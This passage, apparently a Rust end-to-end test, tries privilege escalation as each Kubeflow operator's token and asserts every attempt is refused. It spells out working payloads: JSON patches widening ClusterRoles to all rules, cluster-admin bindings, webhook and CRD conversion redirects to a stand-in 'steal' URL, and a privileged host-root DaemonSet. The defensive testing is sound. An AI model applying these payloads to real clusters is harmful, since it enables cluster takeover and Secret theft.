//! The operators' reach, tried as an attacker would, against the chart
//! installed by the demo with the operators running as its ServiceAccounts
//! (the shared install, see main.rs):
//! what each token may do (access reviews, none of what the
//! controllers it installs may), every self-escalation path tried for real
//! (widening a role, rebinding, aggregation, webhooks, privileged or
//! re-accounted workloads) and refused, nobody's rights changed, and a
//! component CR in a namespace the chart does not allow.

use std::time::Duration;

use k8s_openapi::api::core::v1::Namespace;
use k8s_openapi::api::rbac::v1::ClusterRoleBinding;
use kube::api::{Api, ListParams};
use kubeflow_e2e::access::{self, Request};
use kubeflow_e2e::component::{component_api, delete_and_wait, wait_not_ready};
use kubeflow_e2e::demo::{
    COMPONENTS, Demo, KUBEFLOW_NAMESPACE, OPERATOR_NAMESPACE, RELEASE, tool_ok,
};
use kubeflow_e2e::wait::wait_for;
use kubeflow_e2e::{apply_yaml, repo_root, run_tool};
use kubeflow_operator::rbac::Rules;

const TIMEOUT: Duration = Duration::from_secs(120);

/// A dangerous request: verb, API group, resource, object name ("" for any),
/// namespace ("" for cluster-wide).
type Action = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const DANGEROUS: &[Action] = &[
    ("get", "", "secrets", "", "kube-system"),
    ("list", "", "secrets", "", "kube-system"),
    ("create", "", "pods", "", "kube-system"),
    ("create", "apps", "deployments", "", "kube-system"),
    ("create", "apps", "daemonsets", "", "kube-system"),
    ("get", "", "secrets", "", "team-a"),
    (
        "create",
        "rbac.authorization.k8s.io",
        "rolebindings",
        "",
        "team-a",
    ),
    (
        "patch",
        "rbac.authorization.k8s.io",
        "clusterroles",
        "cluster-admin",
        "",
    ),
    (
        "delete",
        "rbac.authorization.k8s.io",
        "clusterroles",
        "cluster-admin",
        "",
    ),
    (
        "escalate",
        "rbac.authorization.k8s.io",
        "clusterroles",
        "cluster-admin",
        "",
    ),
    (
        "bind",
        "rbac.authorization.k8s.io",
        "clusterroles",
        "cluster-admin",
        "",
    ),
    (
        "delete",
        "rbac.authorization.k8s.io",
        "clusterrolebindings",
        "cluster-admin",
        "",
    ),
    (
        "patch",
        "apiextensions.k8s.io",
        "customresourcedefinitions",
        "widgets.example.com",
        "",
    ),
    (
        "delete",
        "apiextensions.k8s.io",
        "customresourcedefinitions",
        "widgets.example.com",
        "",
    ),
    (
        "delete",
        "admissionregistration.k8s.io",
        "validatingwebhookconfigurations",
        "someone-elses",
        "",
    ),
    (
        "patch",
        "admissionregistration.k8s.io",
        "mutatingwebhookconfigurations",
        "someone-elses",
        "",
    ),
    (
        "update",
        "admissionregistration.k8s.io",
        "validatingwebhookconfigurations",
        "someone-elses",
        "",
    ),
    (
        "update",
        "admissionregistration.k8s.io",
        "mutatingwebhookconfigurations",
        "someone-elses",
        "",
    ),
];

/// What `kubectl auth can-i --list` says a token may do in `namespace`:
/// (resource, resource names, verbs) per line.
fn listed(kubeconfig: &str, namespace: &str) -> Vec<(String, Vec<String>, Vec<String>)> {
    let out = run_tool(
        "kubectl",
        &[
            "--kubeconfig",
            kubeconfig,
            "auth",
            "can-i",
            "--list",
            "-n",
            namespace,
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let brackets = |line: &str| -> Vec<Vec<String>> {
        line.split('[')
            .skip(1)
            .filter_map(|p| p.split(']').next())
            .map(|p| p.split_whitespace().map(str::to_string).collect())
            .collect()
    };
    text.lines()
        .skip(1)
        .filter_map(|line| {
            let resource = line.split_whitespace().next()?.to_string();
            let lists = brackets(line);
            // Resources, non-resource URLs, resource names, verbs.
            (lists.len() == 3).then(|| (resource, lists[1].clone(), lists[2].clone()))
        })
        .collect()
}

/// Whether a listed resource is one of `kinds` (`<plural>.<group>` or the
/// core `<plural>`), or a wildcard.
fn is_one_of(resource: &str, kinds: &[&str]) -> bool {
    resource.starts_with('*') || kinds.contains(&resource)
}

const WORKLOADS: &[&str] = &[
    "pods",
    "deployments.apps",
    "daemonsets.apps",
    "statefulsets.apps",
    "replicasets.apps",
    "jobs.batch",
    "cronjobs.batch",
];
const GUARDED: &[&str] = &[
    "clusterroles.rbac.authorization.k8s.io",
    "clusterrolebindings.rbac.authorization.k8s.io",
    "roles.rbac.authorization.k8s.io",
    "rolebindings.rbac.authorization.k8s.io",
    "mutatingwebhookconfigurations.admissionregistration.k8s.io",
    "validatingwebhookconfigurations.admissionregistration.k8s.io",
    "validatingadmissionpolicies.admissionregistration.k8s.io",
    "validatingadmissionpolicybindings.admissionregistration.k8s.io",
];

/// The operator's generated rules, as the chart grants them.
fn rules_of(component: &str) -> Rules {
    let text = std::fs::read_to_string(
        repo_root().join(format!("charts/kubeflow/files/rbac/{component}.yaml")),
    )
    .expect("rules");
    serde_saphyr::from_str(&text).expect("rules parse")
}

/// The names its cluster rules give `verb` on `resource`.
fn named_in(rules: &Rules, resource: &str, verb: &str) -> Vec<String> {
    rules
        .cluster
        .iter()
        .filter(|r| {
            r.verbs.iter().any(|v| v == verb)
                && r.resources
                    .as_ref()
                    .is_some_and(|x| x.iter().any(|x| x == resource))
        })
        .flat_map(|r| r.resource_names.clone().unwrap_or_default())
        .collect()
}

/// Whether the token may make `action`, asked in process: a failure to ask
/// fails the test (`kubectl auth can-i` printed nothing then, which read as
/// "no" and passed every "may not" check).
async fn can_i(as_operator: &kube::Client, (verb, group, resource, name, ns): Action) -> bool {
    let what = Request {
        verb,
        group,
        resource,
        name,
        namespace: ns,
        ..Default::default()
    };
    access::can_i(as_operator, what)
        .await
        .unwrap_or_else(|e| panic!("{e:#}"))
}

/// A client with the operator's token (its kubeconfig from the demo).
async fn as_operator(demo: &Demo, component: &str) -> kube::Client {
    access::client_for(&demo.kubeconfig(component))
        .await
        .unwrap_or_else(|e| panic!("{component}: {e:#}"))
}

/// Runs kubectl as the operator; returns (success, stderr).
fn kubectl_as(kubeconfig: &str, args: &[&str]) -> (bool, String) {
    let mut all = vec!["--kubeconfig", kubeconfig];
    all.extend_from_slice(args);
    let out = run_tool("kubectl", &all);
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).to_string(),
    )
}

/// Creates (or, with `delete`, deletes) `yaml`'s object as the operator;
/// returns (success, stderr).
fn object_as(kubeconfig: &str, verb: &str, yaml: &str) -> (bool, String) {
    let file = std::env::temp_dir().join(format!("reach-{}.yaml", std::process::id()));
    std::fs::write(&file, yaml).expect("write");
    let path = file.display().to_string();
    let result = kubectl_as(kubeconfig, &[verb, "-f", &path]);
    let _ = std::fs::remove_file(&file);
    result
}

/// The Dashboard operator's tenant access, tried for real: a binding of
/// anyone but people and groups, of another role, without its label, or
/// outside a profile namespace is refused; so is a DENY policy, a Profile
/// owned by a ServiceAccount's name and the delete of another party's
/// binding in a profile namespace. The one binding it is for is admitted.
async fn tenant_access_is_pinned(client: &kube::Client, kubeconfig: &str) {
    let me = format!("system:serviceaccount:{OPERATOR_NAMESPACE}:{RELEASE}-dashboard-operator");
    let label = "components.kubeflow.org/component: dashboard";
    let binding = |name: &str, role: &str, kind: &str, who: &str, labelled: bool| {
        let labels = if labelled {
            format!(", labels: {{{label}}}")
        } else {
            String::new()
        };
        let ns = if kind == "ServiceAccount" {
            format!(", namespace: {OPERATOR_NAMESPACE}")
        } else {
            String::new()
        };
        let api = if kind == "ServiceAccount" {
            String::new()
        } else {
            ", apiGroup: rbac.authorization.k8s.io".to_string()
        };
        format!(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: {name}, namespace: team-a{labels}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {role}}}\nsubjects: [{{kind: {kind}, name: \"{who}\"{ns}{api}}}]\n"
        )
    };
    let jane = binding(
        "reach-tenant",
        "kubeflow-edit",
        "User",
        "jane@example.com",
        true,
    );
    // team-a is not a profile's namespace yet: refused there.
    let (made, err) = object_as(kubeconfig, "create", &jane);
    assert!(!made, "a contributor binding outside a profile namespace");
    assert!(err.contains("RoleBindings"), "{err}");
    tool_ok(
        "kubectl",
        &[
            "label",
            "namespace",
            "team-a",
            "app.kubernetes.io/part-of=kubeflow-profile",
            "--overwrite",
        ],
    );
    for (what, yaml) in [
        (
            "its own ServiceAccount",
            binding(
                "reach-tenant",
                "kubeflow-edit",
                "ServiceAccount",
                &format!("{RELEASE}-dashboard-operator"),
                true,
            ),
        ),
        (
            "its own ServiceAccount's user name",
            binding("reach-tenant", "kubeflow-edit", "User", &me, true),
        ),
        (
            "every ServiceAccount",
            binding(
                "reach-tenant",
                "kubeflow-view",
                "Group",
                "system:serviceaccounts",
                true,
            ),
        ),
        (
            "cluster-admin",
            binding(
                "reach-tenant",
                "cluster-admin",
                "User",
                "jane@example.com",
                true,
            ),
        ),
        (
            "a binding without its label",
            binding(
                "reach-tenant",
                "kubeflow-edit",
                "User",
                "jane@example.com",
                false,
            ),
        ),
    ] {
        let (made, err) = object_as(kubeconfig, "create", &yaml);
        assert!(!made, "the dashboard operator bound {what}");
        assert!(
            err.contains("RoleBindings") || err.contains("forbidden"),
            "{what}: {err}"
        );
    }
    let (made, err) = object_as(kubeconfig, "create", &jane);
    assert!(
        made,
        "a contributor's binding in a profile namespace: {err}"
    );
    let (deleted, err) = object_as(kubeconfig, "delete", &jane);
    assert!(deleted, "its own contributor binding: {err}");
    // Another party's binding there, and policies.
    apply_yaml(
        client,
        "team-a",
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: reach-tenant-users}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\nsubjects: [{kind: User, name: alice, apiGroup: rbac.authorization.k8s.io}]\n",
    )
    .await;
    let (deleted, err) = kubectl_as(
        kubeconfig,
        &[
            "delete",
            "rolebinding",
            "reach-tenant-users",
            "-n",
            "team-a",
        ],
    );
    assert!(
        !deleted,
        "the dashboard operator deleted another party's binding"
    );
    assert!(err.contains("may delete only"), "{err}");
    let policy = |action: &str| {
        format!(
            "apiVersion: security.istio.io/v1beta1\nkind: AuthorizationPolicy\nmetadata: {{name: reach-tenant, namespace: team-a, labels: {{{label}}}}}\nspec: {{action: {action}, rules: [{{}}]}}\n"
        )
    };
    let (made, err) = object_as(kubeconfig, "create", &policy("DENY"));
    assert!(!made, "a DENY policy in a profile namespace");
    assert!(err.contains("AuthorizationPolicies"), "{err}");
    let (made, err) = object_as(kubeconfig, "create", &policy("ALLOW"));
    assert!(made, "an ALLOW policy of its own: {err}");
    let (deleted, err) = object_as(kubeconfig, "delete", &policy("ALLOW"));
    assert!(deleted, "{err}");
    let profile = format!(
        "apiVersion: kubeflow.org/v1\nkind: Profile\nmetadata: {{name: reach-tenant, labels: {{{label}}}}}\nspec: {{owner: {{kind: User, name: \"{me}\"}}}}\n"
    );
    let (made, err) = object_as(kubeconfig, "create", &profile);
    assert!(
        !made,
        "a Profile owned by the operator's own ServiceAccount"
    );
    assert!(err.contains("owner only a person"), "{err}");
    tool_ok(
        "kubectl",
        &[
            "delete",
            "rolebinding",
            "reach-tenant-users",
            "-n",
            "team-a",
        ],
    );
    tool_ok(
        "kubectl",
        &["label", "namespace", "team-a", "app.kubernetes.io/part-of-"],
    );
}

/// No operator token reaches beyond its bundles or its namespaces.
pub async fn check(client: &kube::Client, demo: &Demo) {
    let client = client.clone();
    let namespaces: Api<Namespace> = Api::all(client.clone());
    let _ = namespaces
        .create(
            &Default::default(),
            &serde_json::from_value(serde_json::json!({"metadata": {"name": "team-a"}}))
                .expect("namespace"),
        )
        .await;

    // 1. What each token may do: none of the dangerous actions, whatever
    // the controllers it installs may (it holds none of their rules). Its
    // whole list, outside the allowed namespaces (cluster-wide rules only):
    // no Secrets, no pods or workloads, no write of RBAC, webhook
    // configurations or admission policies but by name (`create`, which
    // RBAC cannot name, is pinned by admission).
    for &c in COMPONENTS.iter() {
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        let token = as_operator(demo, c).await;
        for action in DANGEROUS {
            // The Dashboard operator binds declared contributors in profile
            // namespaces, which RBAC cannot name: admission pins it (tried
            // for real below). No operator may bind cluster-admin: the
            // Dashboard binds the profile controller to a narrow role.
            let tenant = c == "dashboard" && action.2 == "rolebindings";
            assert_eq!(can_i(&token, *action).await, tenant, "{c} may {action:?}");
        }
        let rules = listed(&kubeconfig, "team-a");
        eprintln!("{c}: {} rules listed", rules.len());
        assert!(rules.len() > 3, "{c}: {rules:?}");
        for (resource, names, verbs) in &rules {
            assert!(
                !is_one_of(resource, &["secrets"]),
                "{c} reaches Secrets cluster-wide: {verbs:?}"
            );
            if is_one_of(resource, WORKLOADS) {
                assert!(
                    !verbs
                        .iter()
                        .any(|v| v != "get" && v != "list" && v != "watch"),
                    "{c} may write {resource} cluster-wide: {verbs:?}"
                );
            }
            let tenant = c == "dashboard" && resource == "rolebindings.rbac.authorization.k8s.io";
            if is_one_of(resource, GUARDED) && names.is_empty() && !tenant {
                for v in verbs {
                    assert!(
                        matches!(v.as_str(), "create" | "get" | "list" | "watch"),
                        "{c} may {v} any {resource}"
                    );
                }
                assert!(
                    !resource.starts_with("validatingadmissionpolic")
                        || !verbs.iter().any(|v| v == "create"),
                    "{c} may create {resource}"
                );
            }
        }
    }

    // 2. Self-escalation: widen one's own bundle role, bind cluster-admin,
    // create a role of one's own. Each refused by the API server.
    let training = demo.kubeconfig("training").display().to_string();
    let widen = r#"[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]"#;
    let widen_empty = r#"[{"op":"add","path":"/rules","value":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}]"#;
    for (c, role) in [
        ("training", "training-operator"),
        ("istio", "istiod-clusterrole-istio-system"),
    ] {
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        // The opt-out annotation is allowed on its own objects, and changes nothing here.
        let (annotated, _) = kubectl_as(
            &kubeconfig,
            &[
                "annotate",
                "clusterrole",
                role,
                "components.kubeflow.org/skip-reconcile=true",
                "--overwrite",
            ],
        );
        assert!(annotated, "{c} may patch its own role's metadata");
        let rules = || {
            tool_ok(
                "kubectl",
                &["get", "clusterrole", role, "-o", "jsonpath={.rules}"],
            )
        };
        let before = rules();
        let (widened, err) = kubectl_as(
            &kubeconfig,
            &["patch", "clusterrole", role, "--type", "json", "-p", widen],
        );
        assert!(!widened, "{c} widened {role} to everything");
        assert!(err.contains("rules the bundles give it"), "{c}: {err}");
        assert_eq!(rules(), before, "{role} was changed");
    }
    let (bound, err) = kubectl_as(
        &training,
        &[
            "create",
            "clusterrolebinding",
            "reach-test-admin",
            "--clusterrole",
            "cluster-admin",
            &format!("--serviceaccount={OPERATOR_NAMESPACE}:{RELEASE}-training-operator"),
        ],
    );
    assert!(
        !bound,
        "the training operator bound cluster-admin to itself"
    );
    assert!(err.contains("forbidden"), "{err}");
    let (created, err) = kubectl_as(
        &training,
        &[
            "create",
            "clusterrole",
            "reach-test-empty",
            "--verb=get",
            "--resource=pods",
        ],
    );
    assert!(
        !created,
        "the training operator created a role its bundles do not hold"
    );
    assert!(
        err.contains("only under the names its bundles hold") || err.contains("forbidden"),
        "{err}"
    );
    // Aggregation: an operator that may `escalate` an aggregated role (it
    // must, to write one) tries to point its selector at cluster-admin's
    // label, or to write the role's rules itself; any operator tries to hand
    // its own role's rules to every holder of `view`. The chart's policy on
    // ClusterRole writes refuses each; nobody gains a rule.
    let rule_count = |role: &str| {
        let rules = tool_ok("kubectl", &["get", "clusterrole", role, "-o", "json"]);
        let v: serde_json::Value = serde_json::from_str(&rules).expect("role");
        v["rules"].as_array().map_or(0, Vec::len)
    };
    let view_before = rule_count("view");
    let everything = r#"{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}"#;
    let select_admin = r#"{"aggregationRule":{"clusterRoleSelectors":[{"matchLabels":{"kubernetes.io/bootstrapping":"rbac-defaults"}}]}}"#;
    // The installed ClusterRoles, and whether each is aggregated: one list
    // instead of a `kubectl get` per role of every version.
    let live_roles: std::collections::BTreeMap<String, bool> =
        Api::<k8s_openapi::api::rbac::v1::ClusterRole>::all(client.clone())
            .list(&ListParams::default())
            .await
            .expect("cluster roles")
            .items
            .into_iter()
            .map(|r| {
                (
                    r.metadata.name.unwrap_or_default(),
                    r.aggregation_rule.is_some(),
                )
            })
            .collect();
    let mut tried = 0;
    for &c in COMPONENTS.iter() {
        let text = std::fs::read_to_string(
            repo_root().join(format!("charts/kubeflow/files/rbac/{c}.yaml")),
        )
        .expect("rules");
        let rules: Rules = serde_saphyr::from_str(&text).expect("rules parse");
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        let escalatable: Vec<String> = rules
            .cluster
            .iter()
            .filter(|r| {
                r.verbs.iter().any(|v| v == "escalate")
                    && r.resources
                        .as_ref()
                        .is_some_and(|x| x.iter().any(|x| x == "clusterroles"))
            })
            .flat_map(|r| r.resource_names.clone().unwrap_or_default())
            .collect();
        for role in escalatable {
            // Every version's roles: only those installed are tried.
            if live_roles.get(&role) != Some(&true) {
                continue;
            }
            tried += 1;
            let before = rule_count(&role);
            let (selected, err) = kubectl_as(
                &kubeconfig,
                &[
                    "patch",
                    "clusterrole",
                    &role,
                    "--type",
                    "merge",
                    "-p",
                    select_admin,
                ],
            );
            assert!(
                !selected,
                "{c} pointed {role}'s aggregation at cluster-admin"
            );
            assert!(
                err.contains("aggregationRule its bundles give it"),
                "{c}: {err}"
            );
            let (wrote, err) = kubectl_as(
                &kubeconfig,
                &[
                    "patch",
                    "clusterrole",
                    &role,
                    "--type",
                    "merge",
                    "-p",
                    everything,
                ],
            );
            assert!(!wrote, "{c} wrote the rules of the aggregated {role}");
            assert!(
                err.contains("rules of an aggregated ClusterRole"),
                "{c}: {err}"
            );
            assert_eq!(rule_count(&role), before, "{role} changed");
        }
        let own = match c {
            "istio" => "istiod-clusterrole-istio-system",
            "training" => "training-operator",
            _ => continue,
        };
        let (labelled, err) = kubectl_as(
            &kubeconfig,
            &[
                "label",
                "clusterrole",
                own,
                "rbac.authorization.k8s.io/aggregate-to-view=true",
            ],
        );
        assert!(!labelled, "{c} aggregated {own} into view");
        assert!(
            err.contains("aggregation labels its bundles set"),
            "{c}: {err}"
        );
    }
    eprintln!("aggregated roles tried: {tried}");
    assert!(
        tried >= 3,
        "the aggregated roles of Training, Trainer and Serving were tried ({tried})"
    );
    assert_eq!(rule_count("view"), view_before, "view gained rules");

    // Delete, recreate, widen: every role an operator may `escalate` is
    // widened as that operator; the pins refuse each. A binding deleted
    // and made again (or patched) for the operator's own account is
    // refused; the operator puts the bundle's back.
    let edit_before = rule_count("edit");
    let admin_before = rule_count("admin");
    let mut widened_tries = 0;
    for &c in COMPONENTS.iter() {
        let rules = rules_of(c);
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        for role in named_in(&rules, "clusterroles", "escalate") {
            // Installed and not aggregated (those are tried above).
            if live_roles.get(&role) != Some(&false) {
                continue;
            }
            widened_tries += 1;
            // A role with no rules has no list to append to (Notebooks'
            // `*-ui-admin` roles): its rules are added whole.
            let patch = if rule_count(&role) == 0 {
                widen_empty
            } else {
                widen
            };
            let (widened, err) = kubectl_as(
                &kubeconfig,
                &["patch", "clusterrole", &role, "--type", "json", "-p", patch],
            );
            assert!(!widened, "{c} widened {role}");
            assert!(
                err.contains("rules the bundles give it"),
                "{c} {role}: {err}"
            );
        }
    }
    eprintln!("roles widened: {widened_tries}");
    assert!(widened_tries >= 10, "only {widened_tries} roles tried");
    for (c, binding, role) in [
        (
            "trainer",
            "jobset-manager-rolebinding",
            "jobset-manager-role",
        ),
        (
            "serving",
            "kserve-localmodel-manager-rolebinding",
            "kserve-localmodel-manager-role",
        ),
        ("training", "training-operator", "training-operator"),
        (
            "cert-manager",
            "cert-manager-controller-certificates",
            "cert-manager-controller-certificates",
        ),
        (
            "notebooks",
            "notebook-controller-role-binding",
            "notebook-controller-role",
        ),
        ("auth", "dex", "dex"),
        ("katib", "katib-controller", "katib-controller"),
        (
            "spark",
            "spark-operator-controller",
            "spark-operator-controller",
        ),
        (
            "dashboard",
            "profiles-cluster-rolebinding",
            "kubeflow-profiles-controller",
        ),
        (
            "istio",
            "istiod-clusterrole-istio-system",
            "istiod-clusterrole-istio-system",
        ),
    ] {
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        let own = format!("--serviceaccount={OPERATOR_NAMESPACE}:{RELEASE}-{c}-operator");
        let subjects = || {
            tool_ok(
                "kubectl",
                &[
                    "get",
                    "clusterrolebinding",
                    binding,
                    "-o",
                    "jsonpath={.subjects}",
                ],
            )
        };
        let bundled = subjects();
        let (deleted, err) = kubectl_as(&kubeconfig, &["delete", "clusterrolebinding", binding]);
        assert!(deleted, "{c} may delete its own {binding}: {err}");
        let (made, err) = kubectl_as(
            &kubeconfig,
            &[
                "create",
                "clusterrolebinding",
                binding,
                "--clusterrole",
                role,
                &own,
            ],
        );
        // The operator may have put the bundle's back first.
        assert!(!made, "{c} bound {role} to itself");
        assert!(
            err.contains("roleRef and subjects") || err.contains("AlreadyExists"),
            "{c}: {err}"
        );
        let again = wait_for("the bundle's binding back", TIMEOUT, || async {
            let out = run_tool(
                "kubectl",
                &[
                    "get",
                    "clusterrolebinding",
                    binding,
                    "-o",
                    "jsonpath={.subjects}",
                ],
            );
            out.status
                .success()
                .then(|| String::from_utf8_lossy(&out.stdout).to_string())
        })
        .await;
        assert_eq!(again, bundled, "{binding}'s subjects");
        let me = format!(
            r#"[{{"op":"add","path":"/subjects/-","value":{{"kind":"ServiceAccount","name":"{RELEASE}-{c}-operator","namespace":"{OPERATOR_NAMESPACE}"}}}}]"#
        );
        let (patched, err) = kubectl_as(
            &kubeconfig,
            &[
                "patch",
                "clusterrolebinding",
                binding,
                "--type",
                "json",
                "-p",
                &me,
            ],
        );
        assert!(!patched, "{c} added itself to {binding}");
        assert!(err.contains("roleRef and subjects"), "{c}: {err}");
        // A RoleBinding of the same role: nowhere but the allowed
        // namespaces by RBAC, and there only the bundles' by the pins.
        for ns in ["kube-system", KUBEFLOW_NAMESPACE] {
            let (made, err) = kubectl_as(
                &kubeconfig,
                &[
                    "create",
                    "rolebinding",
                    "reach-test",
                    "-n",
                    ns,
                    "--clusterrole",
                    role,
                    &own,
                ],
            );
            assert!(!made, "{c} bound {role} to itself in {ns}");
            assert!(
                err.contains("forbidden") || err.contains("RoleBindings"),
                "{c} {ns}: {err}"
            );
        }
    }

    // Tenant access: the Dashboard operator may bind people and groups to
    // the Kubeflow roles in profile namespaces, and nothing else with it.
    tenant_access_is_pinned(&client, &demo.kubeconfig("dashboard").display().to_string()).await;
    the_profile_controllers_account_is_guarded(&client).await;

    // Another party's RoleBinding and Deployment in an allowed namespace:
    // no operator deletes them (RBAC cannot name a namespaced delete; the
    // pins do).
    apply_yaml(
        &client,
        KUBEFLOW_NAMESPACE,
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: reach-test-users}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\nsubjects: [{kind: User, name: alice, apiGroup: rbac.authorization.k8s.io}]\n",
    )
    .await;
    tool_ok(
        "kubectl",
        &[
            "create",
            "deployment",
            "reach-test-users",
            "-n",
            KUBEFLOW_NAMESPACE,
            "--image=busybox",
        ],
    );
    for &c in COMPONENTS.iter() {
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        for what in ["rolebinding", "deployment"] {
            let (deleted, err) = kubectl_as(
                &kubeconfig,
                &["delete", what, "reach-test-users", "-n", KUBEFLOW_NAMESPACE],
            );
            assert!(!deleted, "{c} deleted another party's {what}");
            assert!(
                err.contains("forbidden") || err.contains("may delete only"),
                "{c} {what}: {err}"
            );
        }
    }
    tool_ok(
        "kubectl",
        &[
            "delete",
            "rolebinding,deployment",
            "reach-test-users",
            "-n",
            KUBEFLOW_NAMESPACE,
        ],
    );

    // Webhooks: an operator's own configuration pointed at a URL, or given
    // an entry of its own, is refused; another party's is out of reach.
    let foreign = "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: {name: reach-test-someone-elses}\nwebhooks: []\n";
    apply_yaml(&client, "", foreign).await;
    let mut hooked = 0;
    for &c in COMPONENTS.iter() {
        let rules = rules_of(c);
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        let (touched, err) = kubectl_as(
            &kubeconfig,
            &[
                "label",
                "validatingwebhookconfiguration",
                "reach-test-someone-elses",
                "owned=yes",
            ],
        );
        assert!(
            !touched,
            "{c} labelled another party's webhook configuration"
        );
        assert!(err.contains("forbidden"), "{c}: {err}");
        for resource in [
            "validatingwebhookconfigurations",
            "mutatingwebhookconfigurations",
        ] {
            for name in named_in(&rules, resource, "patch") {
                let live = run_tool("kubectl", &["get", resource, &name, "-o", "json"]);
                if !live.status.success() {
                    continue;
                }
                let v: serde_json::Value = serde_json::from_slice(&live.stdout).expect("config");
                let Some(first) = v["webhooks"].get(0).cloned() else {
                    continue;
                };
                hooked += 1;
                let to_url = r#"[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://reach-test.invalid/steal"}}]"#;
                let (redirected, err) = kubectl_as(
                    &kubeconfig,
                    &["patch", resource, &name, "--type", "json", "-p", to_url],
                );
                assert!(!redirected, "{c} pointed {name} at a URL");
                assert!(err.contains("webhook configurations"), "{c} {name}: {err}");
                let mut extra = first;
                extra["name"] = "reach-test.example.com".into();
                extra["rules"] = serde_json::json!([{"apiGroups": [""], "apiVersions": ["v1"],
                    "operations": ["CREATE", "UPDATE"], "resources": ["secrets"]}]);
                let add = serde_json::json!([{"op": "add", "path": "/webhooks/-", "value": extra}])
                    .to_string();
                let (added, err) = kubectl_as(
                    &kubeconfig,
                    &["patch", resource, &name, "--type", "json", "-p", &add],
                );
                assert!(!added, "{c} added a webhook to {name}");
                assert!(err.contains("webhook configurations"), "{c} {name}: {err}");
            }
        }
    }
    eprintln!("webhook configurations tried: {hooked}");
    assert!(hooked >= 4, "only {hooked} webhook configurations tried");
    // A CRD's conversion webhook pointed at a URL would receive every
    // object of the kind: refused for each operator's own CRDs.
    let convert = r#"{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://reach-test.invalid/convert"}}}}}"#;
    let mut converted = 0;
    for &c in COMPONENTS.iter() {
        let rules = rules_of(c);
        let kubeconfig = demo.kubeconfig(c).display().to_string();
        let Some(crd) = named_in(&rules, "customresourcedefinitions", "patch")
            .into_iter()
            .find(|n| run_tool("kubectl", &["get", "crd", n]).status.success())
        else {
            continue;
        };
        converted += 1;
        let (redirected, err) = kubectl_as(
            &kubeconfig,
            &["patch", "crd", &crd, "--type", "merge", "-p", convert],
        );
        assert!(!redirected, "{c} pointed {crd}'s conversion at a URL");
        assert!(err.contains("CRDs"), "{c} {crd}: {err}");
    }
    eprintln!("CRD conversions tried: {converted}");
    assert!(converted >= 5, "only {converted} CRDs tried");
    tool_ok(
        "kubectl",
        &[
            "delete",
            "validatingwebhookconfiguration",
            "reach-test-someone-elses",
        ],
    );

    // Workloads: the device plugins' token makes no privileged, host-PID,
    // host-root DaemonSet, nor gives its own plugin more of the host; the
    // training token does not move its controller to another account.
    let plugins = demo.kubeconfig("device-plugins").display().to_string();
    let root = format!(
        "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {{name: reach-root, namespace: {KUBEFLOW_NAMESPACE}}}\nspec:\n  selector: {{matchLabels: {{app: reach-root}}}}\n  template:\n    metadata: {{labels: {{app: reach-root}}}}\n    spec:\n      hostPID: true\n      containers: [{{name: c, image: busybox, securityContext: {{privileged: true}}, volumeMounts: [{{name: host, mountPath: /host}}]}}]\n      volumes: [{{name: host, hostPath: {{path: /}}}}]\n"
    );
    std::fs::write(demo.state.join("reach-root.yaml"), &root).expect("write");
    let file = demo.state.join("reach-root.yaml").display().to_string();
    let (made, err) = kubectl_as(&plugins, &["create", "-f", &file]);
    assert!(
        !made,
        "the device plugins' token made a privileged DaemonSet"
    );
    assert!(err.contains("workloads"), "{err}");
    let daemonsets = tool_ok(
        "kubectl",
        &[
            "get",
            "daemonsets",
            "-A",
            "-l",
            "components.kubeflow.org/component=device-plugins",
            "-o",
            "jsonpath={range .items[*]}{.metadata.namespace}/{.metadata.name} {end}",
        ],
    );
    let mut plugin_tries = 0;
    for ds in daemonsets.split_whitespace() {
        let (ns, name) = ds.split_once('/').expect("namespace/name");
        plugin_tries += 1;
        for patch in [
            r#"{"spec":{"template":{"spec":{"hostPID":true}}}}"#,
            r#"{"spec":{"template":{"spec":{"volumes":[{"name":"reach-host","hostPath":{"path":"/"}}]}}}}"#,
        ] {
            let (widened, err) = kubectl_as(
                &plugins,
                &["patch", "daemonset", name, "-n", ns, "-p", patch],
            );
            assert!(!widened, "device plugins widened {ds} with {patch}");
            assert!(err.contains("workloads"), "{ds}: {err}");
        }
    }
    eprintln!("device plugin DaemonSets tried: {plugin_tries}");
    assert!(plugin_tries >= 1, "no device plugin DaemonSet to try");
    let (moved, err) = kubectl_as(
        &training,
        &[
            "patch",
            "deployment",
            "training-operator",
            "-n",
            KUBEFLOW_NAMESPACE,
            "-p",
            r#"{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}"#,
        ],
    );
    assert!(!moved, "training moved its controller to another account");
    assert!(err.contains("workloads"), "{err}");

    let reimaged = workloads_keep_their_images(&client, demo).await;
    eprintln!("workloads re-imaged as their operators, all refused: {reimaged}");
    // 26.03.1 installs over 60 workloads across the components.
    assert!(reimaged >= 50, "only {reimaged} workloads tried");
    assert_eq!(rule_count("edit"), edit_before, "edit gained rules");
    assert_eq!(rule_count("admin"), admin_before, "admin gained rules");
    for &c in COMPONENTS.iter() {
